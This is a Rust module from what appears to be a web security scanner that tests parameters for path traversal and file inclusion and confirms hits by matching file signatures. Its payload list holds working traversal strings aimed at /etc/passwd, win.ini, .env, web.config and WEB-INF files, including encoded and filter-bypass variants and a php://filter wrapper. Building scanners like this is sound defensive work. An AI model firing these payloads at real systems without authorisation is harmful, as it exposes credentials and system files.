//! Path traversal and local file inclusion by known-file signatures: operating-system files,
//! and the application's own files (servlet descriptor, framework configs, `.env`,
//! `web.config`) that a read confined to the application still reaches.

use super::common::inject;
use crate::catalogue::{locs, module_id, OWASP_A01};
use crate::client::{SendError, Sent};
use crate::ctx::{Ctx, Hit};
use crate::finding::Confidence;
use crate::target::{InsertionPoint, Resource};
use rampart_domain::catalogue::{AttackMeta, ModuleMeta};
use rampart_domain::{ModuleType, Severity};

pub(crate) const KEY: &str = "path_traversal";

pub(crate) fn meta() -> ModuleMeta {
    ModuleMeta {
        id: module_id(KEY),
        key: KEY,
        name: "Path Traversal",
        description: "<p>Input is used to build a file path, letting an attacker read files outside the intended directory, such as system password files or application sources.</p>",
        recommendation: "Map input to an allow-list of files or identifiers; never use it in a path. Canonicalise and check that the result stays under the base directory.",
        module_type: ModuleType::Active,
        severity: Severity::High,
        cwe: 22,
        wasc: Some(33),
        owasp_2021: "A01:2021-Broken Access Control",
        cvss_vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
        parameter_locations: locs::INPUTS,
        references: &[
            ("CWE-22: Improper Limitation of a Pathname to a Restricted Directory", "https://cwe.mitre.org/data/definitions/22.html"),
            ("OWASP Path Traversal", "https://owasp.org/www-community/attacks/Path_Traversal"),
            OWASP_A01,
        ],
        attacks: &[
            AttackMeta {
                id: "PT_01",
                kind: "Relative traversal",
                class: "Path Traversal",
                description: "../ sequences, plain and encoded, to /etc/passwd and win.ini, confirmed by file signatures.",
            },
            AttackMeta {
                id: "PT_02",
                kind: "Absolute path",
                class: "Path Traversal",
                description: "Absolute paths and file:// URLs to well-known files.",
            },
            AttackMeta {
                id: "PT_03",
                kind: "PHP filter wrapper",
                class: "File Inclusion",
                description: "php://filter base64 output of a known file.",
            },
            AttackMeta {
                id: "PT_04",
                kind: "Application-server and framework files",
                class: "File Inclusion",
                description: "The application's own files at a few depths (WEB-INF/web.xml, WEB-INF/classes/application.properties, .env, web.config), confirmed by their formats.",
            },
        ],
    }
}


/// The application's own files, relative to where reads usually start.
const APP_FILES: &[&str] = &[
    "WEB-INF/web.xml",
    "../WEB-INF/web.xml",
    "../../WEB-INF/web.xml",
    "WEB-INF/classes/application.properties",
    ".env",
    "../.env",
    "../../.env",
    "web.config",
    "../web.config",
];

const UP: &str = "../../../../../../../../../../";

fn payloads(original: &str) -> Vec<(&'static str, String)> {
    let mut v = vec![
        ("PT_01", format!("{UP}etc/passwd")),
        (
            "PT_01",
            format!("{}etc/passwd", UP.replace("../", "....//")),
        ),
        (
            "PT_01",
            format!("{}etc%2fpasswd", UP.replace("../", "..%2f")),
        ),
        ("PT_01", format!("{UP}etc/passwd%00")),
        (
            "PT_01",
            format!("{}windows\\win.ini", UP.replace('/', "\\")),
        ),
        // Filters that decode once more, or strip `../` once.
        (
            "PT_01",
            format!("{}etc%2fpasswd", UP.replace("../", "%2e%2e%2f")),
        ),
        (
            "PT_01",
            format!("{}etc%252fpasswd", UP.replace("../", "%252e%252e%252f")),
        ),
        (
            "PT_01",
            format!("{}etc/passwd", UP.replace("../", "..././")),
        ),
        ("PT_02", "/etc/passwd".to_string()),
        ("PT_02", "file:///etc/passwd".to_string()),
        ("PT_02", "C:\\Windows\\win.ini".to_string()),
        (
            "PT_03",
            "php://filter/convert.base64-encode/resource=index.php".to_string(),
        ),
    ];
    // Reads confined to the application (a servlet context, an open_basedir) still reach
    // its own files.
    for f in APP_FILES {
        v.push(("PT_04", (*f).to_string()));
    }
    if let Some(i) = original.rfind('/') {
        v.push(("PT_01", format!("{}/{UP}etc/passwd", &original[..i])));
    }
    v
}

/// The parameter looks like it names a file: a value with a dot or a separator, or a name
/// that says so.
fn file_like(p: &InsertionPoint) -> bool {
    const NAMES: &[&str] = &[
        "file", "path", "page", "doc", "tpl", "templ", "incl", "dir", "folder", "load", "read",
        "layout", "view", "resource", "src", "asset", "lang", "style", "theme", "module",
    ];
    let n = p.name.to_ascii_lowercase();
    p.original.contains(['.', '/', '\\'])
        || n.len() == 1
        || NAMES.iter().any(|w| n.contains(w))
}

pub(crate) async fn attack(
    ctx: &Ctx,
    r: &Resource,
    orig: &Sent,
    p: &InsertionPoint,
) -> Result<(), SendError> {
    if ctx.already(KEY, r, Some(p)).await {
        return Ok(());
    }
    let orig_text = orig.response.text();
    let mut all = payloads(&p.original);
    if !file_like(p) {
        // The encoding variants and the application's files cost 12 requests a parameter:
        // spent on parameters that look like they name a file.
        all.retain(|(id, v)| *id != "PT_04" && !v.contains("%2e") && !v.contains("%252e") && !v.contains("..././"));
    }
    for (attack_id, value) in all {
        let sent = inject(ctx, r, p, &value).await?;
        let text = sent.response.text();
        if let Some((file, proof)) = file_content(&text, &orig_text) {
            ctx.report_point(
                r,
                Some(p),
                Hit {
                    module: KEY,
                    attack_id,
                    value: &value,
                    proof,
                    proof_description: &format!("the content of {file} appears in the response"),
                    confidence: Confidence::Confirmed,
                    original: Some(orig),
                    attack: Some(&sent),
                },
            )
            .await;
            return Ok(());
        }
    }
    Ok(())
}

/// The file whose content shows in `text` (as is, or HTML-escaped inside the page) and did
/// not in the original page, with the matching excerpt.
fn file_content(text: &str, orig_text: &str) -> Option<(&'static str, String)> {
    let (text, orig_text) = (unescape(text), unescape(orig_text));
    super::signatures::PATH_TRAVERSAL.list.iter().find_map(|s| {
        let m = s.regex.find(&text)?;
        (!s.regex.is_match(&orig_text)).then(|| {
            let excerpt: String = m.as_str().chars().take(200).collect();
            (s.label.as_str(), excerpt)
        })
    })
}

/// `text` with the five HTML escapes a page uses to show a file undone.
fn unescape(text: &str) -> std::borrow::Cow<'_, str> {
    if !text.contains('&') {
        return text.into();
    }
    text.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&amp;", "&")
        .into()
}

#[cfg(test)]
mod tests {
    use super::file_content;

    const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";
    const WIN_INI: &str = "; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n[mci extensions]\r\n[files]\r\n[Mail]\r\nMAPI=1\r\n";
    const NORMAL: &str = "<html><body><p>Welcome back!</p></body></html>";

    #[test]
    fn examples() {
        let table: &[(&str, &str, &str, Option<&str>)] = &[
            ("passwd body", PASSWD, NORMAL, Some("/etc/passwd")),
            (
                "passwd inside html",
                &format!("<pre>{PASSWD}</pre>"),
                NORMAL,
                Some("/etc/passwd"),
            ),
            ("win.ini", WIN_INI, NORMAL, Some("win.ini")),
            (
                "php filter base64 source",
                "PD9waHAKJGRiID0gbmV3IFBETygpOw==",
                NORMAL,
                Some("php://filter"),
            ),
            (
                "page with root: text",
                "<p>Login as root: use sudo. Ratio 0:0 at halftime.</p>",
                NORMAL,
                None,
            ),
            (
                "docs showing root:x:0:0 already on the page",
                PASSWD,
                PASSWD,
                None,
            ),
            ("a normal page", NORMAL, NORMAL, None),
            (
                "web.xml shown escaped in a page",
                "<pre>&lt;?xml version=&quot;1.0&quot;?&gt;\n&lt;web-app xmlns=&quot;http://xmlns.jcp.org/xml/ns/javaee&quot; version=&quot;4.0&quot;&gt;</pre>",
                NORMAL,
                Some("WEB-INF/web.xml"),
            ),
            (
                ".env",
                "<pre>APP_ENV=production\nDB_PASSWORD=Env!r0nment\n</pre>",
                NORMAL,
                Some(".env"),
            ),
            (
                "docs about web-app",
                "<p>The &lt;web-app&gt; element is the root of the descriptor.</p>",
                NORMAL,
                None,
            ),
            (
                "ini-like prose",
                "<p>[fonts] are configured in settings</p>",
                NORMAL,
                None,
            ),
        ];
        for (name, text, orig, want) in table {
            assert_eq!(file_content(text, orig).map(|(f, _)| f), *want, "{name}");
        }
        let (_, proof) = file_content(PASSWD, NORMAL).unwrap();
        assert_eq!(proof, "root:x:0:0:");
    }

    #[test]
    fn payloads_keep_the_original_directory() {
        let p = super::payloads("images/cat.png");
        assert!(p.iter().any(|(_, v)| v.starts_with("images/../")));
        assert!(p.iter().all(|(id, _)| id.starts_with("PT_0")));
    }
}
